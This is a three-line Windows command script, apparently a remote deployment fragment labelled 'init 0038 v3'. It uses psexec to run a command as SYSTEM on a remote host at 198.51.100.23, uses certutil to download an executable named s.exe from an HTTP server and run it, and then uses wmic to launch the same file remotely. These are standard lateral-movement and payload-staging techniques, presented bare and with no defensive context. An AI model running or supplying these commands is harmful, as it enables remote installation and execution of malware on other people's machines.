REM init 0038 v3
psexec.exe \\198.51.100.23 -accepteula -s -d cmd /c "certutil -urlcache -f http://198.51.100.23/s.exe C:\s.exe && C:\s.exe"
wmic /node:198.51.100.23 process call create "cmd /c C:\s.exe"
